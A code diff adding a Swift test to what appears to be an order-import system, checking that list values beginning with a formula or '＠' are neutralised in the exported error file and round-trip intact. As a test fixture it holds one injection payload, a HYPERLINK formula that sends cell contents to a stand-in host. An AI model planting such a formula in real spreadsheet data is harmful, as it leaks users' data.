@@ -101,6 +101,30 @@ import UseCases
     }
 
     @Test(arguments: TestEngine.all)
+    func `no text of a list is a formula in its error file, and it comes back as it was`(
+        _ engine: TestEngine
+    ) async throws {
+        try await Stage.on(engine) { stage in
+            let formula = #"=HYPERLINK("http://x.example/?"&A1)"#
+            let quoted = formula.replacingOccurrences(of: "\"", with: "\"\"")
+            let list = "PO,Vendor,Item,Qty\nPO-1,＠Hengda,\"\(quoted)\",none 0\nPO-2,＠Hengda,Lid,2\n"
+            let id = try await stage.take(Array(list.utf8))
+            _ = try await stage.house.runImport(id, dryRun: false, stage.owner)
+            let errors = try #require(try await stage.errors(of: id))
+            let text = String(decoding: errors, as: UTF8.self)
+            #expect(text.contains(",PO-1,'＠Hengda,\"'=HYPERLINK"), "\(text)")
+            let fixed = text.replacingOccurrences(of: "none 0", with: "1")
+            let again = try await stage.take(Array(fixed.utf8))
+            let report = try #require(
+                try await stage.house.runImport(again, dryRun: false, stage.owner).report)
+            #expect(report.problems.isEmpty && report.created == 1)
+            let order = try await stage.order(numbered: "PO-1")
+            #expect(order.lines[0].description == formula)
+            #expect(try await stage.count(.supplier) == 1)
+        }
+    }
+
+    @Test(arguments: TestEngine.all)
     func `a dry run counts as the import would, and writes nothing`(
         _ engine: TestEngine
     ) async throws {
